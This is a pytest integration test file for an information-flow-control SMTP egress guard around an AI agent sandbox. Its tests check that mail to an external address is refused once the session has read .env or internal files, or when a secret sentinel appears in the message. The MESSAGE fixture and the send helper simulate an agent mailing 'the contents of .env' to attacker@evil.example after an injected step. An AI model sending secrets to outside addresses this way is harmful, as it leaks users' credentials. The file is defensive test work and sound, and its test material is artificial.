"""The SMTP front: smtplib → ifc → an aiosmtpd server on 127.0.0.1 that the policy labels as external mail."""

from __future__ import annotations

import smtplib
import socket

import pytest

import caps
from ifc.enforce.egress import BackgroundLoop, Egress
from ifc.enforce.secrets import Vault
from ifc.enforce.smtp_front import SmtpFront
from ifc.monitor import EventLog, Monitor
from ifc.monitor.monitor import Request
from ifc.policy import compile_text

aiosmtpd_controller = pytest.importorskip("aiosmtpd.controller")
pytestmark = pytest.mark.integration

POLICY = """
labels {
  secrecy public < internal < secret
  integrity untrusted < trusted
}
files {
  "**"     internal
  "/README*"  public
  ".env"   secret
}
endpoints {
  "smtp://127.0.0.1:{S}"  clearance public as mail, external
}
deny secret -> external "secrets never leave the sandbox"
secret API_KEY from env "IFC_TEST_API_KEY" to "https://api.example.com"
"""

MESSAGE = b"From: agent@here.test\r\nTo: attacker@evil.example\r\nSubject: hi\r\n\r\nthe contents of .env\r\n"


class Inbox:
    def __init__(self):
        self.messages = []

    async def handle_DATA(self, server, session, envelope):
        self.messages.append((envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
        return "250 OK"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def mail(tmp_path):
    inbox = Inbox()
    port = free_port()
    controller = aiosmtpd_controller.Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    policy = compile_text(POLICY.replace("{S}", str(port))).policy
    host = caps.HostKey.generate()
    log = EventLog(tmp_path / "events.db")
    monitor = Monitor(policy, verifier=caps.Verifier([host.public], audience="run"), log=log)
    bg = BackgroundLoop()
    vault = Vault.from_policy(policy, values={"API_KEY": "sk-real-value"})
    front = SmtpFront(Egress(monitor, vault=vault), f"smtp://127.0.0.1:{port}")
    _, fport = bg.run(front.start())
    yield dict(inbox=inbox, monitor=monitor, log=log, port=fport, host=host, relay=port,
               sentinel=vault.sandbox_env()["API_KEY"])
    bg.run(front.close())
    bg.stop()
    controller.stop()
    monitor.close()


def send(mail, login: str | None = None, message: bytes = MESSAGE):
    with smtplib.SMTP("127.0.0.1", mail["port"], timeout=10) as smtp:
        smtp.ehlo()
        if login:
            smtp.login("ifc", login)
        return smtp.sendmail("agent@here.test", ["attacker@evil.example"], message)


def test_mail_is_relayed_before_env_is_read_and_refused_after(mail):
    send(mail)
    assert len(mail["inbox"].messages) == 1
    sender, rcpts, content = mail["inbox"].messages[0]
    assert sender == "agent@here.test" and rcpts == ["attacker@evil.example"] and b"the contents" in content

    assert mail["monitor"].decide(Request("read", ".env")).allowed  # the injected step: the session reads .env
    with pytest.raises(smtplib.SMTPDataError) as info:
        send(mail)
    assert info.value.smtp_code == 550
    assert "`secret` data may not go to smtp://127.0.0.1" in info.value.smtp_error.decode()
    assert len(mail["inbox"].messages) == 1, "nothing reached the real server"
    mail["log"].flush()
    [event] = [e for e in mail["log"].events("deny") if e.op == "connect"]
    assert event.target == f"smtp://127.0.0.1:{mail['relay']}" and event.taint_before.startswith("secret")


def test_even_internal_data_may_not_be_mailed(mail):
    mail["monitor"].decide(Request("read", "src/app.py"))
    with pytest.raises(smtplib.SMTPDataError):
        send(mail)
    assert not mail["inbox"].messages


def test_a_token_makes_its_own_subject(mail):
    good = caps.mint(mail["host"], rights=[f"connect smtp://127.0.0.1:{mail['relay']}"], audience="run", ttl=600)
    other = caps.mint(mail["host"], rights=["connect https://example.com"], audience="run", ttl=600)
    send(mail, login=good)
    assert len(mail["inbox"].messages) == 1
    with pytest.raises(smtplib.SMTPDataError) as info:
        send(mail, login=other)
    assert "token" in info.value.smtp_error.decode()
    assert len(mail["inbox"].messages) == 1


def test_protocol_errors(mail):
    with socket.create_connection(("127.0.0.1", mail["port"]), timeout=5) as s:
        f = s.makefile("rwb")
        assert f.readline().startswith(b"220")
        for line, code in [(b"RCPT TO:<x@y>", b"503"), (b"MAIL FROM:nope", b"501"), (b"FROB", b"500"),
                           (b"DATA", b"503"), (b"X" * 2000, b"500")]:
            f.write(line + b"\r\n")
            f.flush()
            assert f.readline().startswith(code), line[:20]


def test_a_secret_sentinel_in_mail_is_refused(mail):
    with pytest.raises(smtplib.SMTPDataError) as info:
        send(mail, message=MESSAGE + f"key: {mail['sentinel']}\r\n".encode())
    assert "secret `API_KEY` is headed for smtp://127.0.0.1" in info.value.smtp_error.decode()
    assert not mail["inbox"].messages
